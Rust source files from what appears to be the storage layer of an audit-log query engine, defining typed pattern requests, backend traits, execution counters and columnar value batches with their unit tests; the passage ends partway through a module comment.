        prop_assert!((0.0..=1.0).contains(&s));
        let o = containment_overlap(&a, &b);
        prop_assert!((0.0..=1.0).contains(&o));
    }

    /// A single edit moves the distance by at most one.
    #[test]
    fn single_edit_changes_distance_by_at_most_one(a in "[a-z]{1,12}", ch in proptest::char::range('a', 'z')) {
        let mut edited = a.clone();
        edited.pop();
        edited.push(ch);
        prop_assert!(levenshtein(&a, &edited) <= 1);
    }

    /// Datetime display/parse round-trip over a wide range of timestamps.
    #[test]
    fn datetime_roundtrip(secs in 0i64..8_000_000_000i64) {
        let ts = Timestamp(secs * NANOS_PER_SEC);
        let text = format!("{ts}");
        let parsed = parse_datetime(&text);
        prop_assert_eq!(parsed, Some(ts), "text {}", text);
    }

    /// The interner resolves every symbol to the exact string interned.
    #[test]
    fn interner_roundtrip(strings in proptest::collection::vec("[ -~]{0,24}", 0..50)) {
        let mut interner = raptor_common::Interner::new();
        let syms: Vec<_> = strings.iter().map(|s| interner.intern(s)).collect();
        for (s, sym) in strings.iter().zip(syms) {
            prop_assert_eq!(interner.resolve(sym), s.as_str());
        }
        // Interning is idempotent: count distinct strings.
        let distinct: std::collections::HashSet<&String> = strings.iter().collect();
        prop_assert_eq!(interner.len(), distinct.len());
    }
}
