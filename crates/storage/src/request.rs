//! Typed pattern requests — what the scheduler sends a backend instead of
//! SQL/Cypher text.
//!
//! The vocabulary is deliberately backend-neutral: entity classes instead of
//! table names or node labels, attribute names instead of columns or
//! properties. Each backend owns the mapping to its physical layout.

use crate::value::Value;

/// The three system-entity classes of the audit model.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum EntityClass {
    File,
    Process,
    NetConn,
}

impl EntityClass {
    /// The event `kind` discriminator recorded for events whose *object* is
    /// this class (mirrors the audit loader's convention).
    pub fn event_kind(self) -> &'static str {
        match self {
            EntityClass::File => "file",
            EntityClass::Process => "process",
            EntityClass::NetConn => "network",
        }
    }

    /// The backend-neutral table name for this class — the key vocabulary
    /// of [`crate::stats::StoreStats`] and the relational store's physical
    /// table names.
    pub fn table_name(self) -> &'static str {
        match self {
            EntityClass::File => "files",
            EntityClass::Process => "processes",
            EntityClass::NetConn => "netconns",
        }
    }
}

/// Comparison operators (engine-level; backends map to their own spellings).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum CmpOp {
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
}

/// A typed predicate over one record's attributes. String literals arrive
/// **pre-interned** ([`Value::Str`] carries a shared-dictionary `Sym`), so
/// backends evaluate equality without a per-request dictionary lookup;
/// `LIKE` patterns stay textual (they are pattern syntax, not values).
#[derive(Clone, PartialEq, Debug)]
pub enum Pred {
    /// `attr op value`. String equality with `%` wildcards is [`Pred::Like`].
    Cmp {
        attr: String,
        op: CmpOp,
        value: Value,
    },
    /// SQL-`LIKE` semantics (`%` any run, `_` any char).
    Like {
        attr: String,
        pattern: String,
        negated: bool,
    },
    /// `attr [NOT] IN (values)`.
    InSet {
        attr: String,
        negated: bool,
        values: Vec<Value>,
    },
    And(Box<Pred>, Box<Pred>),
    Or(Box<Pred>, Box<Pred>),
    Not(Box<Pred>),
}

impl Pred {
    pub fn and(preds: impl IntoIterator<Item = Pred>) -> Option<Pred> {
        preds.into_iter().reduce(|a, b| Pred::And(Box::new(a), Box::new(b)))
    }

    /// Number of leaf atoms (for observability / plan summaries).
    pub fn atoms(&self) -> usize {
        match self {
            Pred::Cmp { .. } | Pred::Like { .. } | Pred::InSet { .. } => 1,
            Pred::And(a, b) | Pred::Or(a, b) => a.atoms() + b.atoms(),
            Pred::Not(inner) => inner.atoms(),
        }
    }
}

/// One side of a pattern: an entity class, its declared filter, and the
/// scheduler-propagated candidate id set (already distinct and sorted).
#[derive(Clone, Debug)]
pub struct EntitySel {
    pub class: EntityClass,
    pub filter: Option<Pred>,
    pub id_in: Option<Vec<i64>>,
}

impl EntitySel {
    pub fn of(class: EntityClass, filter: Option<Pred>) -> Self {
        EntitySel { class, filter, id_in: None }
    }
}

/// An event-pattern data query: `subject —event→ object` with pushed-down
/// predicates. The backend returns subject id, object id, event id and
/// event timestamps per match.
#[derive(Clone, Debug)]
pub struct EventPatternQuery {
    pub subject: EntitySel,
    pub object: EntitySel,
    /// Conjunction over event attributes: operation type, event filters,
    /// time windows.
    pub event_pred: Option<Pred>,
    /// Restricts matching to these event ids (sorted, distinct). The
    /// streaming engine's *delta* knob: per-epoch re-evaluation passes the
    /// epoch's freshly ingested event ids so only new events are matched.
    /// `None` = no restriction (batch semantics).
    pub event_id_in: Option<Vec<i64>>,
    /// True when the pattern binds the *same* variable as subject and
    /// object: matches must satisfy `subject id == object id`.
    pub subject_is_object: bool,
}

/// A path-pattern data query: `subject —*min..max→ object`, optionally with
/// a constrained final hop (TBQL's `~>(m~n)[op]` semantics: the prefix is
/// unconstrained, the last edge carries the operation predicate).
#[derive(Clone, Debug)]
pub struct PathPatternQuery {
    pub subject: EntitySel,
    pub object: EntitySel,
    pub min_hops: u32,
    /// `None` = unbounded (bounded below by `hop_cap`).
    pub max_hops: Option<u32>,
    /// Hard cap on traversal depth for unbounded patterns (the engine's
    /// configured maximum).
    pub hop_cap: u32,
    /// Predicate on the final hop's event attributes, if the pattern
    /// constrains it.
    pub final_hop_pred: Option<Pred>,
    /// Restricts the *final hop* to these event ids (sorted, distinct) —
    /// the delta knob for single-hop paths. Multi-hop patterns cannot be
    /// delta-evaluated this way (a new path may mix old and new edges), so
    /// streaming callers fall back to full re-evaluation for them.
    pub final_event_id_in: Option<Vec<i64>>,
    /// Whether the caller wants the final hop's event id/timestamps bound
    /// (true exactly when the pattern has a final hop).
    pub want_event: bool,
    /// True when the pattern binds the *same* variable as subject and
    /// object (path must start and end at one entity).
    pub subject_is_object: bool,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pred_combinators() {
        let dict = raptor_common::SharedDict::new();
        let a = Pred::Cmp {
            attr: "optype".into(),
            op: CmpOp::Eq,
            value: Value::Str(dict.intern("read")),
        };
        let b = Pred::Like { attr: "exename".into(), pattern: "%tar%".into(), negated: false };
        let both = Pred::and([a.clone(), b.clone()]).unwrap();
        assert_eq!(both.atoms(), 2);
        assert_eq!(Pred::and([a.clone()]), Some(a));
        assert_eq!(Pred::and([]), None);
    }

    #[test]
    fn entity_sel_accessors() {
        let sel = EntitySel::of(EntityClass::Process, None);
        assert_eq!(sel.class, EntityClass::Process);
        assert!(sel.filter.is_none());
        assert_eq!(EntityClass::NetConn.event_kind(), "network");
    }
}
