//! The [`StorageBackend`] trait and unified execution counters.

use raptor_common::error::Result;

use crate::request::{EntityClass, EventPatternQuery, PathPatternQuery, Pred};
use crate::stats::StoreStats;
use crate::value::{PatternMatches, Value};

/// Where an attribute fetch reads from.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum AttrSource {
    Entity(EntityClass),
    Event,
}

/// Unified execution counters across backends. Relational and graph
/// engines count different physical things; the shared vocabulary is:
/// `items_scanned` (rows / nodes), `items_built` (join tuples / bindings),
/// `items_inserted` (rows / nodes / edges appended through
/// [`MutableBackend`]), index vs full access paths, and — the typed plane's
/// invariant — `text_parses`, which stays 0 on every [`StorageBackend`]
/// entry point.
///
/// The struct carries no epoch state of its own: streaming callers get
/// per-epoch reset semantics by passing a fresh `BackendStats` per ingest
/// batch and [`absorb`](BackendStats::absorb)-ing it into a running total.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct BackendStats {
    /// Typed data queries served.
    pub data_queries: usize,
    /// SQL/Cypher texts parsed. Always 0 through the trait; the giant-query
    /// baselines bump it at the engine level.
    pub text_parses: usize,
    /// Rows or nodes touched by scans/anchors.
    pub items_scanned: usize,
    /// Join tuples or path bindings materialized.
    pub items_built: usize,
    /// Records appended through [`MutableBackend`]: one per entity row/node
    /// and one per event row/edge. Always 0 on query entry points.
    pub items_inserted: usize,
    /// Scans served by an index access path.
    pub index_scans: usize,
    /// Scans that fell back to a full scan.
    pub full_scans: usize,
    /// Edges traversed (graph backends; 0 for relational).
    pub edges_traversed: usize,
    /// Columnar segments whose rows a full scan actually evaluated
    /// (relational backend; 0 for graph).
    pub segments_scanned: usize,
    /// Columnar segments refuted wholesale by their zone maps — no row
    /// inside was touched (relational backend; 0 for graph).
    pub segments_pruned: usize,
}

impl BackendStats {
    /// Counter-wise difference vs an earlier snapshot of the same stats —
    /// the per-data-query deltas the observability plane attaches to each
    /// issued query (`QueryInfo.delta` at the engine level).
    pub fn delta_since(&self, before: &BackendStats) -> BackendStats {
        BackendStats {
            data_queries: self.data_queries - before.data_queries,
            text_parses: self.text_parses - before.text_parses,
            items_scanned: self.items_scanned - before.items_scanned,
            items_built: self.items_built - before.items_built,
            items_inserted: self.items_inserted - before.items_inserted,
            index_scans: self.index_scans - before.index_scans,
            full_scans: self.full_scans - before.full_scans,
            edges_traversed: self.edges_traversed - before.edges_traversed,
            segments_scanned: self.segments_scanned - before.segments_scanned,
            segments_pruned: self.segments_pruned - before.segments_pruned,
        }
    }

    pub fn absorb(&mut self, other: &BackendStats) {
        self.data_queries += other.data_queries;
        self.text_parses += other.text_parses;
        self.items_scanned += other.items_scanned;
        self.items_built += other.items_built;
        self.items_inserted += other.items_inserted;
        self.index_scans += other.index_scans;
        self.full_scans += other.full_scans;
        self.edges_traversed += other.edges_traversed;
        self.segments_scanned += other.segments_scanned;
        self.segments_pruned += other.segments_pruned;
    }
}

/// A field value being appended through [`MutableBackend`]. Borrowed —
/// backends intern/copy on the way in, exactly like their native insert
/// paths.
#[derive(Clone, Copy, Debug)]
pub enum FieldValue<'a> {
    Int(i64),
    Str(&'a str),
}

/// One named field of a record being appended: `(attribute name, value)`.
/// Names use the backend-neutral attribute vocabulary (the same names
/// [`Pred`]s and `fetch_attr` use); each backend maps them to its physical
/// columns or properties.
pub type Field<'a> = (&'a str, FieldValue<'a>);

/// Typed entry points a store exposes to the scheduled executor. All of
/// them bypass the store's text parser: requests arrive as data structures
/// and results leave as typed batches keyed by `i64` entity ids.
///
/// A backend may support only the shapes its physical model can answer
/// (e.g. a relational store rejects multi-hop path patterns); callers route
/// by shape.
pub trait StorageBackend {
    /// Short name for plans/telemetry, e.g. `"relational"` / `"graph"`.
    fn backend_name(&self) -> &'static str;

    /// The store's incrementally-maintained data statistics (row counts,
    /// per-column distinct/top-k/histograms, per-class degree summaries).
    /// Maintained on the write path; serving them performs **zero scans**.
    fn stats(&self) -> &StoreStats;

    /// Resolves a filtered entity to its candidate ids (one small indexed
    /// lookup — the scheduler's seeding step). Returned ids are sorted and
    /// distinct.
    fn entity_candidates(
        &self,
        class: EntityClass,
        filter: &Pred,
        stats: &mut BackendStats,
    ) -> Result<Vec<i64>>;

    /// Matches one event pattern; returns (subject, object, event, start,
    /// end) per match.
    fn match_event_pattern(
        &self,
        q: &EventPatternQuery,
        stats: &mut BackendStats,
    ) -> Result<PatternMatches>;

    /// Matches one (possibly variable-length) path pattern.
    fn match_path_pattern(
        &self,
        q: &PathPatternQuery,
        stats: &mut BackendStats,
    ) -> Result<PatternMatches>;

    /// Fetches `attr` for the given ids; absent ids are simply missing from
    /// the result. Used by final projection and `with`-clause evaluation.
    fn fetch_attr(
        &self,
        source: AttrSource,
        attr: &str,
        ids: &[i64],
        stats: &mut BackendStats,
    ) -> Result<Vec<(i64, Value)>>;
}

/// Incremental-append extension of [`StorageBackend`] — the streaming
/// ingestion seam. Every insert maintains every index the store has already
/// built (hash / B-tree / trigram, graph value indexes, adjacency), so a
/// store grown record-by-record answers queries identically to one
/// bulk-loaded with the same data.
///
/// Contract:
/// * entity ids are append-only and arrive in ascending dense order (the
///   audit parser's id space); backends may rely on this to keep their
///   physical ids aligned with entity ids,
/// * an event's `subject`/`object` entities must already be inserted,
/// * each successful call bumps `stats.items_inserted` by exactly 1.
pub trait MutableBackend: StorageBackend {
    /// Appends one entity record of `class` with the given id and
    /// attributes.
    fn insert_entity(
        &mut self,
        class: EntityClass,
        id: i64,
        fields: &[Field<'_>],
        stats: &mut BackendStats,
    ) -> Result<()>;

    /// Appends one event record linking two existing entities. `fields`
    /// carries the event attributes (`optype`, `kind`, `starttime`, ...).
    fn insert_event(
        &mut self,
        id: i64,
        subject: i64,
        object: i64,
        fields: &[Field<'_>],
        stats: &mut BackendStats,
    ) -> Result<()>;
}
