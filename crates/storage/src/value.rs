//! Typed values and columnar result batches, keyed on the shared
//! dictionary plane.
//!
//! Strings never cross the engine as heap `String`s: a [`Value::Str`] holds
//! a [`Sym`] into the one [`SharedDict`] both storage backends intern into,
//! so equality (joins, DISTINCT, streaming multiset diffs) is an integer
//! compare and rendering to display strings happens exactly once, at the
//! edge ([`ResultBatch::rendered_rows`] via `ResultTable::from_batch`).

use raptor_common::intern::{SharedDict, Sym};

/// A detached typed value — the engine's currency across the
/// [`crate::StorageBackend`] seam. 16 bytes, `Copy`; strings are handles
/// into the shared dictionary.
///
/// Deliberately **no** derived `Ord`: [`Sym`] ordering is insertion order,
/// so value ordering must resolve through the dictionary
/// ([`Value::cmp_with`]) — otherwise `sorted_rows()` ordering could change
/// with interner insertion order.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Value {
    /// NULL sorts first under [`Value::cmp_with`] so ordering matches the
    /// string rendering of empty cells.
    Null,
    Int(i64),
    Str(Sym),
}

impl Value {
    pub fn as_int(&self) -> Option<i64> {
        match self {
            Value::Int(i) => Some(*i),
            _ => None,
        }
    }

    pub fn as_sym(&self) -> Option<Sym> {
        match self {
            Value::Str(s) => Some(*s),
            _ => None,
        }
    }

    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    /// Renders for display; NULL renders empty, like both stores always did.
    pub fn render(&self, dict: &SharedDict) -> String {
        match self {
            Value::Null => String::new(),
            Value::Int(i) => i.to_string(),
            Value::Str(s) => dict.resolve(*s).to_string(),
        }
    }

    /// Total ordering used by ORDER BY / range semantics: Null < Int < Str;
    /// strings order by dictionary *content*, never by handle id, so the
    /// ordering is independent of interner insertion order.
    pub fn cmp_with(&self, other: Value, dict: &SharedDict) -> std::cmp::Ordering {
        use std::cmp::Ordering::*;
        match (*self, other) {
            (Value::Null, Value::Null) => Equal,
            (Value::Null, _) => Less,
            (_, Value::Null) => Greater,
            (Value::Int(a), Value::Int(b)) => a.cmp(&b),
            (Value::Int(_), Value::Str(_)) => Less,
            (Value::Str(_), Value::Int(_)) => Greater,
            (Value::Str(a), Value::Str(b)) => {
                if a == b {
                    Equal
                } else {
                    dict.resolve(a).cmp(dict.resolve(b))
                }
            }
        }
    }
}

/// One column of a [`ResultBatch`]. Homogeneous columns store unboxed
/// vectors (`Str` is a vector of dictionary handles); `Mixed` is the escape
/// hatch for columns with NULLs or mixed types.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum ValueColumn {
    Int(Vec<i64>),
    Str(Vec<Sym>),
    Mixed(Vec<Value>),
}

impl ValueColumn {
    pub fn len(&self) -> usize {
        match self {
            ValueColumn::Int(v) => v.len(),
            ValueColumn::Str(v) => v.len(),
            ValueColumn::Mixed(v) => v.len(),
        }
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Value at `row` (copies the 16-byte cell; columns are the storage of
    /// record).
    pub fn get(&self, row: usize) -> Value {
        match self {
            ValueColumn::Int(v) => Value::Int(v[row]),
            ValueColumn::Str(v) => Value::Str(v[row]),
            ValueColumn::Mixed(v) => v[row],
        }
    }

    /// Renders the cell at `row` — the only place a column becomes a
    /// heap string.
    pub fn render(&self, row: usize, dict: &SharedDict) -> String {
        match self {
            ValueColumn::Int(v) => v[row].to_string(),
            ValueColumn::Str(v) => dict.resolve(v[row]).to_string(),
            ValueColumn::Mixed(v) => v[row].render(dict),
        }
    }

    /// Is the cell at `row` a string (i.e. rendered through the dictionary)?
    pub fn is_str(&self, row: usize) -> bool {
        match self {
            ValueColumn::Int(_) => false,
            ValueColumn::Str(_) => true,
            ValueColumn::Mixed(v) => matches!(v[row], Value::Str(_)),
        }
    }

    /// Builds the densest column representation for a vector of values.
    pub fn from_values(vals: Vec<Value>) -> ValueColumn {
        if vals.iter().all(|v| matches!(v, Value::Int(_))) {
            ValueColumn::Int(vals.iter().filter_map(Value::as_int).collect())
        } else if vals.iter().all(|v| matches!(v, Value::Str(_))) {
            ValueColumn::Str(vals.iter().filter_map(Value::as_sym).collect())
        } else {
            ValueColumn::Mixed(vals)
        }
    }
}

/// A columnar query result: named columns of typed values plus the handle
/// of the dictionary its symbols live in. This is the engine's internal
/// currency; conversion to display strings happens once, at the edge
/// (`rendered_rows`).
#[derive(Clone, Debug)]
pub struct ResultBatch {
    pub columns: Vec<String>,
    pub cols: Vec<ValueColumn>,
    /// The dictionary plane this batch's `Str` symbols resolve through.
    pub dict: SharedDict,
}

impl Default for ResultBatch {
    fn default() -> Self {
        ResultBatch { columns: Vec::new(), cols: Vec::new(), dict: SharedDict::new() }
    }
}

impl PartialEq for ResultBatch {
    /// Structural equality over columns and symbol-keyed cells. Only
    /// meaningful between batches of one dictionary plane (which is the
    /// only place batches ever meet); compare `rendered_rows()` otherwise.
    fn eq(&self, other: &Self) -> bool {
        self.columns == other.columns && self.cols == other.cols
    }
}

impl Eq for ResultBatch {}

impl ResultBatch {
    pub fn new(columns: Vec<String>, cols: Vec<ValueColumn>, dict: SharedDict) -> Self {
        debug_assert_eq!(columns.len(), cols.len(), "column arity mismatch");
        debug_assert!(cols.windows(2).all(|w| w[0].len() == w[1].len()), "ragged columns");
        ResultBatch { columns, cols, dict }
    }

    /// Builds a batch from row-major typed values.
    pub fn from_rows(columns: Vec<String>, rows: Vec<Vec<Value>>, dict: SharedDict) -> Self {
        let ncols = columns.len();
        let mut by_col: Vec<Vec<Value>> =
            (0..ncols).map(|_| Vec::with_capacity(rows.len())).collect();
        for row in rows {
            debug_assert_eq!(row.len(), ncols, "row arity mismatch");
            for (c, v) in row.into_iter().enumerate() {
                by_col[c].push(v);
            }
        }
        ResultBatch {
            columns,
            cols: by_col.into_iter().map(ValueColumn::from_values).collect(),
            dict,
        }
    }

    pub fn n_rows(&self) -> usize {
        self.cols.first().map_or(0, ValueColumn::len)
    }

    pub fn n_cols(&self) -> usize {
        self.columns.len()
    }

    pub fn is_empty(&self) -> bool {
        self.n_rows() == 0
    }

    /// Row `i` as typed values.
    pub fn row(&self, i: usize) -> Vec<Value> {
        self.cols.iter().map(|c| c.get(i)).collect()
    }

    /// The one-and-only string rendering, for display and tests.
    pub fn rendered_rows(&self) -> Vec<Vec<String>> {
        (0..self.n_rows())
            .map(|i| self.cols.iter().map(|c| c.render(i, &self.dict)).collect())
            .collect()
    }

    /// How many cells of this batch are strings (i.e. will materialize a
    /// heap `String` when rendered). Feeds the `strings_materialized`
    /// edge-accounting counter.
    pub fn str_cells(&self) -> usize {
        (0..self.n_rows()).map(|i| self.cols.iter().filter(|c| c.is_str(i)).count()).sum()
    }
}

/// Typed matches for one scheduled pattern, struct-of-arrays. Patterns with
/// a bound final hop carry the event id and its timestamps; pure path
/// patterns (no final hop) set `has_event = false` and fill `evt`/`start`/
/// `end` with sentinels.
#[derive(Clone, Debug, Default)]
pub struct PatternMatches {
    pub subj: Vec<i64>,
    pub obj: Vec<i64>,
    pub evt: Vec<i64>,
    pub start: Vec<i64>,
    pub end: Vec<i64>,
    pub has_event: bool,
}

impl PatternMatches {
    pub fn with_capacity(n: usize, has_event: bool) -> Self {
        PatternMatches {
            subj: Vec::with_capacity(n),
            obj: Vec::with_capacity(n),
            evt: Vec::with_capacity(n),
            start: Vec::with_capacity(n),
            end: Vec::with_capacity(n),
            has_event,
        }
    }

    pub fn len(&self) -> usize {
        self.subj.len()
    }

    pub fn is_empty(&self) -> bool {
        self.subj.is_empty()
    }

    pub fn push_event(&mut self, subj: i64, obj: i64, evt: i64, start: i64, end: i64) {
        self.subj.push(subj);
        self.obj.push(obj);
        self.evt.push(evt);
        self.start.push(start);
        self.end.push(end);
    }

    pub fn push_pair(&mut self, subj: i64, obj: i64) {
        self.push_event(subj, obj, -1, 0, 0);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn value_is_small_and_copy() {
        assert!(std::mem::size_of::<Value>() <= 16);
        let d = SharedDict::new();
        let v = Value::Str(d.intern("x"));
        let copied = v; // Copy
        assert_eq!(v, copied);
    }

    #[test]
    fn ordering_resolves_through_dictionary() {
        // Intern in *reverse* lexicographic order: handle ids disagree with
        // string order, so this pins that cmp_with never compares handles.
        let d = SharedDict::new();
        let b = Value::Str(d.intern("beta"));
        let a = Value::Str(d.intern("alpha"));
        assert!(a.as_sym().unwrap() > b.as_sym().unwrap(), "handles inverted by construction");
        assert_eq!(a.cmp_with(b, &d), std::cmp::Ordering::Less);
        assert_eq!(a.cmp_with(a, &d), std::cmp::Ordering::Equal);
        assert_eq!(Value::Null.cmp_with(a, &d), std::cmp::Ordering::Less);
        assert_eq!(Value::Int(5).cmp_with(Value::Int(3), &d), std::cmp::Ordering::Greater);
        assert_eq!(Value::Int(5).cmp_with(a, &d), std::cmp::Ordering::Less);
    }

    #[test]
    fn column_densification() {
        let d = SharedDict::new();
        let ints = ValueColumn::from_values(vec![Value::Int(1), Value::Int(2)]);
        assert!(matches!(ints, ValueColumn::Int(_)));
        let strs =
            ValueColumn::from_values(vec![Value::Str(d.intern("a")), Value::Str(d.intern("b"))]);
        assert!(matches!(strs, ValueColumn::Str(_)));
        assert!(strs.is_str(0));
        let mixed = ValueColumn::from_values(vec![Value::Int(1), Value::Null]);
        assert!(matches!(mixed, ValueColumn::Mixed(_)));
        assert_eq!(mixed.render(1, &d), "");
        assert_eq!(mixed.get(0), Value::Int(1));
        assert!(!mixed.is_str(0));
    }

    #[test]
    fn batch_roundtrip_row_major() {
        let d = SharedDict::new();
        let rows = vec![
            vec![Value::Str(d.intern("/bin/tar")), Value::Int(3)],
            vec![Value::Str(d.intern("/usr/bin/curl")), Value::Int(9)],
        ];
        let b = ResultBatch::from_rows(vec!["exe".into(), "n".into()], rows.clone(), d.clone());
        assert_eq!(b.n_rows(), 2);
        assert_eq!(b.n_cols(), 2);
        assert_eq!(b.row(1), rows[1]);
        assert_eq!(b.rendered_rows(), vec![vec!["/bin/tar", "3"], vec!["/usr/bin/curl", "9"]]);
        assert_eq!(b.str_cells(), 2, "one string column × two rows");
    }

    #[test]
    fn matches_push() {
        let mut m = PatternMatches::with_capacity(2, true);
        m.push_event(1, 2, 10, 100, 200);
        assert_eq!(m.len(), 1);
        let mut p = PatternMatches::with_capacity(1, false);
        p.push_pair(5, 6);
        assert_eq!((p.subj[0], p.obj[0], p.evt[0]), (5, 6, -1));
    }
}
