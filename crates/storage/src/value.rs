//! Typed values and columnar result batches.

/// A detached typed value — what backends hand the engine. Strings are
/// materialized (they must outlive the store's borrow).
#[derive(Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Debug)]
pub enum Value {
    /// NULL sorts first so `sorted_rows` ordering matches string rendering
    /// of empty cells.
    Null,
    Int(i64),
    Str(String),
}

impl Value {
    pub fn as_int(&self) -> Option<i64> {
        match self {
            Value::Int(i) => Some(*i),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    /// Renders for display; NULL renders empty, like both stores always did.
    pub fn render(&self) -> String {
        match self {
            Value::Null => String::new(),
            Value::Int(i) => i.to_string(),
            Value::Str(s) => s.clone(),
        }
    }
}

impl std::fmt::Display for Value {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.render())
    }
}

/// One column of a [`ResultBatch`]. Homogeneous columns store unboxed
/// vectors; `Mixed` is the escape hatch for columns with NULLs or mixed
/// types.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum ValueColumn {
    Int(Vec<i64>),
    Str(Vec<String>),
    Mixed(Vec<Value>),
}

impl ValueColumn {
    pub fn len(&self) -> usize {
        match self {
            ValueColumn::Int(v) => v.len(),
            ValueColumn::Str(v) => v.len(),
            ValueColumn::Mixed(v) => v.len(),
        }
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Value at `row` (clones; columns are the storage of record).
    pub fn get(&self, row: usize) -> Value {
        match self {
            ValueColumn::Int(v) => Value::Int(v[row]),
            ValueColumn::Str(v) => Value::Str(v[row].clone()),
            ValueColumn::Mixed(v) => v[row].clone(),
        }
    }

    /// Renders the cell at `row` without materializing a [`Value`].
    pub fn render(&self, row: usize) -> String {
        match self {
            ValueColumn::Int(v) => v[row].to_string(),
            ValueColumn::Str(v) => v[row].clone(),
            ValueColumn::Mixed(v) => v[row].render(),
        }
    }

    /// Builds the densest column representation for a vector of values.
    pub fn from_values(vals: Vec<Value>) -> ValueColumn {
        if vals.iter().all(|v| matches!(v, Value::Int(_))) {
            ValueColumn::Int(vals.iter().filter_map(Value::as_int).collect())
        } else if vals.iter().all(|v| matches!(v, Value::Str(_))) {
            ValueColumn::Str(
                vals.into_iter()
                    .map(|v| match v {
                        Value::Str(s) => s,
                        _ => unreachable!("checked above"),
                    })
                    .collect(),
            )
        } else {
            ValueColumn::Mixed(vals)
        }
    }
}

/// A columnar query result: named columns of typed values. This is the
/// engine's internal currency; conversion to display strings happens once,
/// at the edge (`rendered_rows`).
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct ResultBatch {
    pub columns: Vec<String>,
    pub cols: Vec<ValueColumn>,
}

impl ResultBatch {
    pub fn new(columns: Vec<String>, cols: Vec<ValueColumn>) -> Self {
        debug_assert_eq!(columns.len(), cols.len(), "column arity mismatch");
        debug_assert!(cols.windows(2).all(|w| w[0].len() == w[1].len()), "ragged columns");
        ResultBatch { columns, cols }
    }

    /// Builds a batch from row-major typed values.
    pub fn from_rows(columns: Vec<String>, rows: Vec<Vec<Value>>) -> Self {
        let ncols = columns.len();
        let mut by_col: Vec<Vec<Value>> =
            (0..ncols).map(|_| Vec::with_capacity(rows.len())).collect();
        for row in rows {
            debug_assert_eq!(row.len(), ncols, "row arity mismatch");
            for (c, v) in row.into_iter().enumerate() {
                by_col[c].push(v);
            }
        }
        ResultBatch { columns, cols: by_col.into_iter().map(ValueColumn::from_values).collect() }
    }

    pub fn n_rows(&self) -> usize {
        self.cols.first().map_or(0, ValueColumn::len)
    }

    pub fn n_cols(&self) -> usize {
        self.columns.len()
    }

    pub fn is_empty(&self) -> bool {
        self.n_rows() == 0
    }

    /// Row `i` as typed values.
    pub fn row(&self, i: usize) -> Vec<Value> {
        self.cols.iter().map(|c| c.get(i)).collect()
    }

    /// The one-and-only string rendering, for display and tests.
    pub fn rendered_rows(&self) -> Vec<Vec<String>> {
        (0..self.n_rows()).map(|i| self.cols.iter().map(|c| c.render(i)).collect()).collect()
    }
}

/// Typed matches for one scheduled pattern, struct-of-arrays. Patterns with
/// a bound final hop carry the event id and its timestamps; pure path
/// patterns (no final hop) set `has_event = false` and fill `evt`/`start`/
/// `end` with sentinels.
#[derive(Clone, Debug, Default)]
pub struct PatternMatches {
    pub subj: Vec<i64>,
    pub obj: Vec<i64>,
    pub evt: Vec<i64>,
    pub start: Vec<i64>,
    pub end: Vec<i64>,
    pub has_event: bool,
}

impl PatternMatches {
    pub fn with_capacity(n: usize, has_event: bool) -> Self {
        PatternMatches {
            subj: Vec::with_capacity(n),
            obj: Vec::with_capacity(n),
            evt: Vec::with_capacity(n),
            start: Vec::with_capacity(n),
            end: Vec::with_capacity(n),
            has_event,
        }
    }

    pub fn len(&self) -> usize {
        self.subj.len()
    }

    pub fn is_empty(&self) -> bool {
        self.subj.is_empty()
    }

    pub fn push_event(&mut self, subj: i64, obj: i64, evt: i64, start: i64, end: i64) {
        self.subj.push(subj);
        self.obj.push(obj);
        self.evt.push(evt);
        self.start.push(start);
        self.end.push(end);
    }

    pub fn push_pair(&mut self, subj: i64, obj: i64) {
        self.push_event(subj, obj, -1, 0, 0);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn column_densification() {
        let ints = ValueColumn::from_values(vec![Value::Int(1), Value::Int(2)]);
        assert!(matches!(ints, ValueColumn::Int(_)));
        let strs = ValueColumn::from_values(vec![Value::Str("a".into()), Value::Str("b".into())]);
        assert!(matches!(strs, ValueColumn::Str(_)));
        let mixed = ValueColumn::from_values(vec![Value::Int(1), Value::Null]);
        assert!(matches!(mixed, ValueColumn::Mixed(_)));
        assert_eq!(mixed.render(1), "");
        assert_eq!(mixed.get(0), Value::Int(1));
    }

    #[test]
    fn batch_roundtrip_row_major() {
        let rows = vec![
            vec![Value::Str("/bin/tar".into()), Value::Int(3)],
            vec![Value::Str("/usr/bin/curl".into()), Value::Int(9)],
        ];
        let b = ResultBatch::from_rows(vec!["exe".into(), "n".into()], rows.clone());
        assert_eq!(b.n_rows(), 2);
        assert_eq!(b.n_cols(), 2);
        assert_eq!(b.row(1), rows[1]);
        assert_eq!(b.rendered_rows(), vec![vec!["/bin/tar", "3"], vec!["/usr/bin/curl", "9"]]);
    }

    #[test]
    fn matches_push() {
        let mut m = PatternMatches::with_capacity(2, true);
        m.push_event(1, 2, 10, 100, 200);
        assert_eq!(m.len(), 1);
        let mut p = PatternMatches::with_capacity(1, false);
        p.push_pair(5, 6);
        assert_eq!((p.subj[0], p.obj[0], p.evt[0]), (5, 6, -1));
    }
}
