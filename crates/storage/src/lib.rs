//! The typed value plane between the query engine and its storage backends.
//!
//! Historically the engine rendered every scheduled pattern to a SQL/Cypher
//! *string*, had the store re-parse it, and got `Vec<Vec<String>>` rows back
//! that it re-parsed into `i64` ids to join. This crate is the replacement
//! seam:
//!
